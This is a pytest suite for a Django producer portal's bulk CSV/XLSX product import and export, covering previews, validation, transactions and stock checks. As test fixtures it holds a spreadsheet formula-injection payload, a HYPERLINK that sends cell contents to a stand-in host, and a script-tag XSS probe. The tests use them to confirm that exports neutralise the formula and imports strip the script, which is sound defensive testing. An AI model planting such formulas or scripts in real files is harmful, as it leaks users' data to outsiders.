"""Bulk import and export of a producer's products and stock (CSV and XLSX) in the portal.

Given a producer's own user, when they download their products, edit the file and upload it, then the
preview shows what will change and writes nothing; "Xác nhận nhập" writes every row in one transaction.
Any bad row (named by its spreadsheet row and column, in Vietnamese), another producer's product id, a
file that is not a spreadsheet, a stale preview or a stock that moved since the preview writes nothing.
"""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from oscar.core.loading import get_model

from catalog.models import Product, ProductSet
from marketplace.producers.models import ProducerAction
from marketplace.producers.portal.access import SESSION_ASSISTED
from marketplace.producers.portal.bulk import selectors
from marketplace.producers.portal.listings.services import CONSTRAINTS_KEPT_BY_FILL
from tests.factories import (
    WARD_BIM_SON,
    WARD_DONG_SON,
    ProducerFactory,
    ProductFactory,
    UserFactory,
    producer_user,
)

pytestmark = pytest.mark.django_db

StockRecord = get_model("partner", "StockRecord")

HOME = reverse("producer_portal:bulk_home")
EXPORT = reverse("producer_portal:bulk_export")
TEMPLATE = reverse("producer_portal:bulk_template")
PREVIEW = reverse("producer_portal:bulk_preview")
CONFIRM = reverse("producer_portal:bulk_confirm")
LIST = reverse("producer_portal:listing_list")
HEADERS = ["Mã sản phẩm", "Mã bộ sản phẩm (1-26)", "Tên sản phẩm", "Mô tả", "Giá (đồng)", "Tồn kho",
           "Khối lượng (g)", "Thể tích (ml)", "Hạn sử dụng (ngày)", "Mã xã/phường xuất xứ",
           "Hiện trên sàn (có/không)", "Tồn kho lúc xuất file (không sửa)"]
HYPERLINK = '=HYPERLINK("https://lua-dao.example/?d="&A1,"Xem")'
ERROR = re.compile(r'<li data-row="(\d+)" data-column="(\w*)">(.*?)</li>', re.S)
TOKEN = re.compile(r'name="token" value="([^"]+)"')


class Seller:
    """A signed-in producer user's browser that posts with the CSRF token its pages set."""

    def __init__(self, client, producer):
        self.producer, self.client = producer, client
        self.csrf = self.client.get(HOME).cookies["csrftoken"].value

    def get(self, url, **params):
        return self.client.get(url, params)

    def post(self, url, data=None):
        return self.client.post(url, {**(data or {}), "csrfmiddlewaretoken": self.csrf})

    def upload(self, content: bytes, name: str = "san-pham.csv"):
        return self.post(PREVIEW, {"file": SimpleUploadedFile(name, content)})

    def confirm(self, token: str):
        return self.post(CONFIRM, {"token": token})


@pytest.fixture
def seller(client_for):
    producer = ProducerFactory(name="HTX Nước mắm Ba Làng", ward_code=WARD_DONG_SON)
    return Seller(client_for(producer_user(producer)), producer)


@pytest.fixture
def fish_sauce(seller):
    """The seller's product as the product form would have saved it."""
    return ProductFactory(
        producer=seller.producer, title="Nước mắm cá cơm Ba Làng", ocop_set=ProductSet.objects.get(number=9),
        description="<p>Ủ chượp 12 tháng.</p>\n\n<p>Đóng chai thủy tinh.</p>", weight_grams=700, volume_ml=500,
        shelf_life_days=730, origin_ward_code=WARD_DONG_SON, stockrecord__price=Decimal("98000"),
        stockrecord__num_in_stock=25,
    )


def _csv(rows, headers=HEADERS, delimiter=",", encoding="utf-8-sig") -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(headers)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def _xlsx(rows, headers=HEADERS) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _new_row(title="Chè lam Phủ Quảng", price="45000", stock="40", **changes):
    row = {"id": "", "set": "6", "title": title, "description": "Chè lam gừng.", "price": price, "stock": stock,
           "weight": "300", "volume": "", "shelf": "60", "ward": str(WARD_BIM_SON), "public": "có", "seen": ""}
    row.update(changes)
    return list(row.values())


def _errors(response) -> list[tuple[int, str, str]]:
    return [(int(row), column, html.unescape(text.strip()))
            for row, column, text in ERROR.findall(response.content.decode())]


def _token(response) -> str:
    match = TOKEN.search(response.content.decode())
    assert match, "the preview has no confirm button"
    return match.group(1)


def _snapshot():
    return (
        list(Product.objects.order_by("pk").values_list("pk", "title", "description", "is_public")),
        list(StockRecord.objects.order_by("pk").values_list("pk", "price", "num_in_stock", "num_allocated")),
        ProducerAction.objects.count(),
    )


# --- export --------------------------------------------------------------------------------------------


def test_the_products_page_leads_to_the_bulk_page_which_lists_the_codes_to_type(seller):
    assert f'href="{HOME}"' in seller.get(LIST).content.decode()

    page = html.unescape(seller.get(HOME).content.decode())

    assert "<li>9 — Tương, nước mắm, gia vị dạng lỏng khác</li>" in page
    assert f"<li>{WARD_DONG_SON} — Phường Đông Sơn</li>" in page
    assert f'action="{PREVIEW}"' in page and 'enctype="multipart/form-data"' in page


def test_the_export_reads_the_products_and_their_stock_in_two_queries(seller, django_assert_num_queries):
    for n in range(5):
        ProductFactory(producer=seller.producer, title=f"Chè lam {n}")

    with django_assert_num_queries(2):
        rows = selectors.producer_export_rows(producer=seller.producer)

    assert [row[2] for row in rows] == [f"Chè lam {n}" for n in range(5)]


def test_the_csv_export_is_the_producers_products_in_utf8_with_bom(seller, fish_sauce):
    ProductFactory(title="Chè lam của người khác")  # another producer's product is not exported

    response = seller.get(EXPORT, **{"dinh-dang": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="san-pham-\d{4}-\d{2}-\d{2}\.csv"', response["Content-Disposition"])
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.content.decode("utf-8-sig").split("\r\n") == [
        ",".join(HEADERS),
        f'{fish_sauce.pk},9,Nước mắm cá cơm Ba Làng,"Ủ chượp 12 tháng.\n\nĐóng chai thủy tinh.",98000,25,700,500,730,'
        f"{WARD_DONG_SON},có,25",
        "",
    ]


def test_the_xlsx_export_has_the_same_cells_with_numbers_as_numbers(seller, fish_sauce):
    response = seller.get(EXPORT, **{"dinh-dang": "xlsx"})

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows == [
        tuple(HEADERS),
        (fish_sauce.pk, 9, "Nước mắm cá cơm Ba Làng", "Ủ chượp 12 tháng.\n\nĐóng chai thủy tinh.", 98000, 25, 700,
         500, 730, WARD_DONG_SON, "có", 25),
    ]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_template_is_the_header_row_only(seller, fish_sauce, file_format):
    response = seller.get(TEMPLATE, **{"dinh-dang": file_format})

    assert response["Content-Disposition"] == f'attachment; filename="mau-nhap-san-pham.{file_format}"'
    if file_format == "csv":
        assert response.content.decode("utf-8-sig") == ",".join(HEADERS) + "\r\n"
    else:
        assert list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)) == [
            tuple(HEADERS)]


def test_an_unknown_format_is_not_found(seller):
    assert seller.get(EXPORT, **{"dinh-dang": "pdf"}).status_code == 404


def test_exported_text_that_could_start_a_formula_is_made_literal_and_imports_back_unchanged(seller):
    product = ProductFactory(producer=seller.producer, title=HYPERLINK, description="<p>-5 độ C</p>",
                             stockrecord__price=Decimal("50000"), stockrecord__num_in_stock=3)

    csv_file = seller.get(EXPORT, **{"dinh-dang": "csv"}).content
    xlsx_file = seller.get(EXPORT, **{"dinh-dang": "xlsx"}).content

    row = list(csv.reader(io.StringIO(csv_file.decode("utf-8-sig"))))[1]
    assert (row[2], row[3]) == ("'" + HYPERLINK, "'-5 độ C")
    cells = list(load_workbook(io.BytesIO(xlsx_file)).active.iter_rows(values_only=True))[1]
    assert (cells[2], cells[3]) == ("'" + HYPERLINK, "'-5 độ C")
    # and the exported files import back as they are: nothing to change
    for name, content in (("san-pham.csv", csv_file), ("san-pham.xlsx", xlsx_file)):
        before = _snapshot()
        preview = seller.upload(content, name)
        assert "0 sản phẩm mới" in preview.content.decode() and "1 sản phẩm không đổi" in preview.content.decode()
        assert seller.confirm(_token(preview)).status_code == 302
        assert _snapshot()[:2] == before[:2]
    product.refresh_from_db()
    assert product.title == HYPERLINK


def test_the_products_constraints_are_the_ones_the_listing_services_keep_by_construction():
    # The listing services skip full_clean's constraint queries because _fill keeps these; a new constraint
    # on Product must be looked at there (and added to the list, or checked again).
    assert tuple(constraint.name for constraint in Product._meta.constraints) == CONSTRAINTS_KEPT_BY_FILL


# --- import: preview, then confirm ---------------------------------------------------------------------


def test_a_file_adds_and_changes_products_only_when_confirmed(seller, fish_sauce):
    before = _snapshot()
    changed = [str(fish_sauce.pk), "9", "Nước mắm cá cơm Ba Làng", "Ủ chượp 12 tháng.\n\nĐóng chai thủy tinh.",
               "105.000", "30", "700", "500", "730", str(WARD_DONG_SON), "không", "25"]

    preview = seller.upload(_csv([changed, _new_row()]))

    page = preview.content.decode()
    assert preview.status_code == 200
    assert _errors(preview) == []
    assert "1 sản phẩm mới" in page and "1 sản phẩm thay đổi" in page and "0 sản phẩm không đổi" in page
    changes = re.findall(r'<li data-key="(\w+)">(.*?)</li>', page, re.S)
    assert [(key, " ".join(html.unescape(text).split())) for key, text in changes] == [
        ("price", "Giá (đồng): 98.000 ₫ → 105.000 ₫"),
        ("num_in_stock", "Tồn kho: 25 → 30"),
        ("is_public", "Hiện trên sàn (có/không): có → không"),
    ]
    assert _snapshot() == before  # the preview wrote nothing

    response = seller.confirm(_token(preview))

    assert response.status_code == 302 and response["Location"] == LIST
    record = fish_sauce.stockrecords.get()
    fish_sauce.refresh_from_db()
    assert (record.price, record.num_in_stock, fish_sauce.is_public) == (Decimal("105000"), 30, False)
    new = Product.objects.get(producer=seller.producer, title="Chè lam Phủ Quảng")
    assert (new.ocop_set.number, new.description, new.weight_grams, new.volume_ml, new.shelf_life_days,
            new.origin_ward_code, new.is_public) == (6, "<p>Chè lam gừng.</p>", 300, None, 60, WARD_BIM_SON, True)
    assert new.stockrecords.values_list("partner_id", "price", "num_in_stock").get() == (
        seller.producer.partner_id, Decimal("45000"), 40)
    actions = list(ProducerAction.objects.filter(producer=seller.producer).order_by("pk")
                   .values_list("action", "target_id", "assisted"))
    assert actions == [("product_updated", str(fish_sauce.pk), False), ("product_created", str(new.pk), False),
                       ("products_imported", "", False)]
    assert ProducerAction.objects.get(action="products_imported").detail == {
        "file_name": "san-pham.csv", "rows": 2, "created": [new.pk], "changed": [fish_sauce.pk], "unchanged": 0}
    messages = seller.get(LIST).content.decode()
    assert "Đã nhập file “san-pham.csv”: 1 sản phẩm mới, 1 sản phẩm được cập nhật, 0 sản phẩm không đổi." in (
        html.unescape(messages))


def test_an_xlsx_file_with_semicolons_numbers_and_blank_rows_reads_as_excel_shows_it(seller):
    xlsx = _xlsx([[None, 6, "Chè lam", None, 45000, 40, 300, None, 60, WARD_BIM_SON, "có", None],
                  [None] * 12,
                  [None, 6, "Chè lam gừng", None, 46000.0, 41, 300, None, 60, WARD_BIM_SON, True, None],
                  [None, 6, "Chè lam quế", None, -1, 41, 300, None, 60, WARD_BIM_SON, "có", None]])

    preview = seller.upload(xlsx, "san-pham.xlsx")

    assert _errors(preview) == [(5, "price", "Dòng 5, cột “Giá (đồng)”: Giá bán phải lớn hơn 0 đồng.")]

    semicolons = _csv([_new_row(price="46.000"), _new_row(title="Chè lam quế", price="47 000")], delimiter=";")
    preview = seller.upload(semicolons)
    assert _errors(preview) == []
    seller.confirm(_token(preview))
    assert sorted(StockRecord.objects.filter(partner=seller.producer.partner).values_list("price", flat=True)) == [
        Decimal("46000"), Decimal("47000")]


def test_a_thousand_rows_with_one_bad_row_write_nothing_and_the_corrected_file_imports_them_all(seller):
    rows = [_new_row(title=f"Chè lam Phủ Quảng {n}", price=str(40000 + n)) for n in range(1000)]
    rows[536][4] = "-45000"  # spreadsheet row 538: the header is row 1
    before = _snapshot()

    preview = seller.upload(_csv(rows))

    assert _errors(preview) == [(538, "price", "Dòng 538, cột “Giá (đồng)”: Giá bán phải lớn hơn 0 đồng.")]
    assert not TOKEN.search(preview.content.decode())  # no way to confirm a file with errors
    assert _snapshot() == before

    rows[536][4] = "45000"
    preview = seller.upload(_csv(rows))
    assert _errors(preview) == []
    assert "1000 sản phẩm mới" in preview.content.decode()
    assert _snapshot() == before
    assert seller.confirm(_token(preview)).status_code == 302

    assert Product.objects.filter(producer=seller.producer).count() == 1000
    assert StockRecord.objects.filter(partner=seller.producer.partner).count() == 1000
    assert StockRecord.objects.get(product__title="Chè lam Phủ Quảng 536").price == Decimal("45000")
    assert ProducerAction.objects.filter(producer=seller.producer, action="product_created").count() == 1000


def test_every_bad_cell_is_named_by_row_and_column(seller, fish_sauce):
    rows = [
        _new_row(set="27"),
        _new_row(title="", stock="-1"),
        _new_row(ward="4", public="có lẽ"),  # Phường Ba Đình, Hà Nội
        _new_row(id="abc"),
        _new_row(id=str(fish_sauce.pk)),
        _new_row(id=str(fish_sauce.pk)),
    ]

    preview = seller.upload(_csv(rows))

    assert _errors(preview) == [
        (2, "ocop_set", "Dòng 2, cột “Mã bộ sản phẩm (1-26)”: Mã bộ sản phẩm là số từ 1 đến 26."),
        (3, "title", "Dòng 3, cột “Tên sản phẩm”: Hãy nhập tên sản phẩm."),
        (3, "num_in_stock", "Dòng 3, cột “Tồn kho”: Số lượng tồn kho không được âm."),
        (4, "origin_ward_code", "Dòng 4, cột “Mã xã/phường xuất xứ”: Xã/phường không thuộc tỉnh Thanh Hóa."),
        (4, "is_public", "Dòng 4, cột “Hiện trên sàn (có/không)”: Hãy ghi “có” hoặc “không”."),
        (5, "product_id", "Dòng 5, cột “Mã sản phẩm”: Mã sản phẩm là số; để trống nếu là sản phẩm mới."),
        (7, "product_id", f"Dòng 7, cột “Mã sản phẩm”: Sản phẩm mã {fish_sauce.pk} đã có ở dòng 6."),
    ]
    assert "File có 7 lỗi. Chưa có sản phẩm nào được lưu" in html.unescape(preview.content.decode())


def test_digits_that_are_not_0_to_9_are_a_row_error_not_a_server_error(seller, fish_sauce):
    before = _snapshot()

    preview = seller.upload(_csv([_new_row(set="²"), _new_row(id="²"), _new_row(id="٢٣"),
                                  _new_row(id=str(fish_sauce.pk), seen="²")]))

    assert preview.status_code == 200
    assert _errors(preview) == [
        (2, "ocop_set", "Dòng 2, cột “Mã bộ sản phẩm (1-26)”: Mã bộ sản phẩm là số từ 1 đến 26."),
        (3, "product_id", "Dòng 3, cột “Mã sản phẩm”: Mã sản phẩm là số; để trống nếu là sản phẩm mới."),
        (4, "product_id", "Dòng 4, cột “Mã sản phẩm”: Mã sản phẩm là số; để trống nếu là sản phẩm mới."),
        (5, "stock_seen", "Dòng 5, cột “Tồn kho lúc xuất file (không sửa)”: Cột này là số tồn kho lúc xuất file: "
                          "hãy để nguyên số đã xuất."),
    ]
    assert _snapshot() == before


def test_opening_the_preview_or_confirm_address_again_goes_back_to_the_upload_page(seller):
    for url in (PREVIEW, CONFIRM):
        response = seller.client.get(url)
        assert (response.status_code, response["Location"]) == (302, HOME)


def test_another_producers_product_id_is_refused_and_nothing_is_written(seller, fish_sauce):
    theirs = ProductFactory(title="Chè lam của người khác", stockrecord__price=Decimal("30000"))
    before = _snapshot()

    preview = seller.upload(_csv([_new_row(), _new_row(id=str(theirs.pk), price="1")]))

    assert _errors(preview) == [(3, "product_id", (
        f"Dòng 3, cột “Mã sản phẩm”: Gian hàng của bạn không có sản phẩm mã {theirs.pk}. "
        "Để trống ô này nếu là sản phẩm mới."))]
    assert "Chè lam của người khác" not in preview.content.decode()
    assert _snapshot() == before


# --- files that are not the spreadsheet -----------------------------------------------------------------


def _zip(**parts) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name.replace("__", "/"), text)
    return buffer.getvalue()


@pytest.mark.parametrize(("name", "content", "reason"), [
    ("anh.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "File “anh.csv” không phải file CSV hay Excel (.xlsx) nên không đọc được."),
    ("rac.csv", b"\xff\xfe\x00r\x00a\x00c", "File “rac.csv” không phải file CSV hay Excel (.xlsx) nên không đọc được."),
    ("cu.csv", ",".join(HEADERS).encode("cp1258", "replace") + b"\r\n,6,Ch\xe8 lam\r\n",
     "File “cu.csv” không lưu bằng bảng mã UTF-8 nên tiếng Việt sẽ bị lỗi. Trong Excel hãy chọn “Lưu thành” → "
     "“CSV UTF-8 (phân tách bằng dấu phẩy)”, hoặc lưu thành file .xlsx."),
    ("cu.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100,
     "File “cu.xls” là file Excel 97-2003 (.xls) hoặc có mật khẩu. Hãy mở bằng Excel, bỏ mật khẩu rồi lưu thành "
     ".xlsx hoặc CSV UTF-8."),
    ("hong.xlsx", b"PK\x03\x04" + b"\x00" * 200, "File “hong.xlsx” không đọc được: file Excel bị hỏng."),
    ("van-ban.xlsx", _zip(word__document_xml="<w/>"),
     "File “van-ban.xlsx” không phải file Excel (.xlsx). Hãy lưu thành .xlsx hoặc CSV UTF-8."),
    ("to.csv", b"a" * (2 * 1024 * 1024 + 1), "File “to.csv” quá lớn: tối đa 2 MB. Hãy chia thành nhiều file nhỏ hơn."),
    ("trong.csv", b"", "File trống."),
    ("tieu-de.csv", _csv([], headers=HEADERS[:4]),
     "File “tieu-de.csv” thiếu cột: “Giá (đồng)”, “Tồn kho”, “Khối lượng (g)”, “Thể tích (ml)”, “Hạn sử dụng (ngày)”, "
     "“Mã xã/phường xuất xứ”, “Hiện trên sàn (có/không)”. Dòng 1 phải là tiêu đề cột như trong file mẫu."),
    ("chi-tieu-de.csv", _csv([]), "File “chi-tieu-de.csv” không có dòng sản phẩm nào (dòng 1 là tiêu đề cột)."),
    ("nhieu.csv", _csv([_new_row()] * 5001), "File “nhieu.csv” có hơn 5.000 dòng sản phẩm. Hãy chia thành nhiều file."),
])
def test_a_file_that_is_not_the_product_spreadsheet_is_refused_with_the_reason(seller, name, content, reason):
    before = _snapshot()

    response = seller.upload(content, name)

    assert response.status_code == 200
    page = html.unescape(response.content.decode())
    assert re.findall(r'<div class="invalid-feedback d-block" role="alert">(.*?)</div>', page, re.S) == [reason]
    assert _snapshot() == before


# --- what is stored ------------------------------------------------------------------------------------


def test_a_formula_title_is_stored_as_text_and_script_tags_are_removed(seller):
    preview = seller.upload(_csv([_new_row(title=HYPERLINK, description='<script>alert("x")</script><b>Ngon</b>')]))
    seller.confirm(_token(preview))

    product = Product.objects.get(producer=seller.producer)
    assert product.title == HYPERLINK
    assert product.description == "<b>Ngon</b>"


# --- stale previews and stocks that moved ---------------------------------------------------------------


def test_a_stale_or_foreign_token_writes_nothing(seller, client_for):
    other = ProducerFactory(name="HTX Chè lam Phủ Quảng")
    other_seller = Seller(client_for(producer_user(other)), other)
    their_token = _token(other_seller.upload(_csv([_new_row(title="Chè lam của B")])))
    own_token = _token(seller.upload(_csv([_new_row()])))
    before = _snapshot()

    for token in ("khong-co", their_token, ""):
        response = seller.confirm(token)
        assert response.status_code == 400
        assert ("Bản xem trước đã hết hạn hoặc không còn dùng được. Chưa có gì được lưu: hãy tải file lên lại."
                in html.unescape(response.content.decode()))
    assert _snapshot() == before

    assert seller.confirm(own_token).status_code == 302  # the own preview still confirms, once
    assert seller.confirm(own_token).status_code == 400
    assert Product.objects.filter(producer=seller.producer).count() == 1
    assert not Product.objects.filter(title="Chè lam của B").exists()


def test_a_stock_that_moved_since_the_preview_refuses_the_whole_file(seller, fish_sauce):
    row = [str(fish_sauce.pk), "9", "Nước mắm cá cơm Ba Làng", "", "98000", "40", "700", "500", "730",
           str(WARD_DONG_SON), "có", ""]  # no stock seen: the preview's stock (25) is the one seen
    preview = seller.upload(_csv([_new_row(), row]))
    assert _errors(preview) == []
    StockRecord.objects.filter(product=fish_sauce).update(num_in_stock=23)  # two units shipped meanwhile
    before = _snapshot()

    response = seller.confirm(_token(preview))

    assert response.status_code == 409
    assert _errors(response) == [(3, "num_in_stock", (
        "Dòng 3, cột “Tồn kho”: Tồn kho vừa thay đổi thành 23 (có đơn hàng mới). "
        "Hãy xem lại rồi nhập lại số lượng."))]
    assert "Không nhập được file này vì dữ liệu đã thay đổi kể từ lúc xem trước." in response.content.decode()
    assert _snapshot() == before  # the new product of row 2 is not written either


def test_a_stock_seen_at_export_is_left_alone_when_unchanged_and_refused_when_moved(seller, fish_sauce):
    exported = [str(fish_sauce.pk), "9", "Nước mắm cá cơm Ba Làng", "", "99000", "25", "700", "500", "730",
                str(WARD_DONG_SON), "có", "25"]
    StockRecord.objects.filter(product=fish_sauce).update(num_in_stock=22)  # shipped since the export

    preview = seller.upload(_csv([exported]))
    seller.confirm(_token(preview))

    record = fish_sauce.stockrecords.get()
    assert (record.price, record.num_in_stock) == (Decimal("99000"), 22)  # the price changed, the stock was left
    preview = seller.upload(_csv([[*exported[:5], "30", *exported[6:]]]))
    assert _errors(preview) == [(2, "num_in_stock", (
        "Dòng 2, cột “Tồn kho”: Tồn kho vừa thay đổi thành 22 (có đơn hàng mới). Hãy xem lại rồi nhập lại số lượng."))]


def test_a_stock_below_what_orders_hold_is_refused_at_the_preview(seller, fish_sauce):
    StockRecord.objects.filter(product=fish_sauce).update(num_allocated=5)
    row = [str(fish_sauce.pk), "9", "Nước mắm cá cơm Ba Làng", "", "98000", "3", "700", "500", "730",
           str(WARD_DONG_SON), "có", "25"]
    before = _snapshot()

    preview = seller.upload(_csv([_new_row(), row]))

    assert _errors(preview) == [(3, "num_in_stock", (
        "Dòng 3, cột “Tồn kho”: Không thể đặt tồn kho 3: đang có 5 sản phẩm được giữ cho đơn hàng chưa giao."))]
    assert _snapshot() == before


def test_assisted_listing_records_both_identities(client_for, fish_sauce):
    assistant = UserFactory(is_staff=True)
    assistant.user_permissions.add(Permission.objects.get(codename="act_for_producer"))
    client = client_for(assistant)
    session = client.session
    session[SESSION_ASSISTED] = fish_sauce.producer.pk
    session.save()
    staff = Seller(client, fish_sauce.producer)

    staff.confirm(_token(staff.upload(_csv([_new_row()]))))

    assert list(ProducerAction.objects.filter(producer=fish_sauce.producer).order_by("pk").values_list(
        "action", "actor_id", "assisted")) == [("product_created", assistant.pk, True),
                                                ("products_imported", assistant.pk, True)]
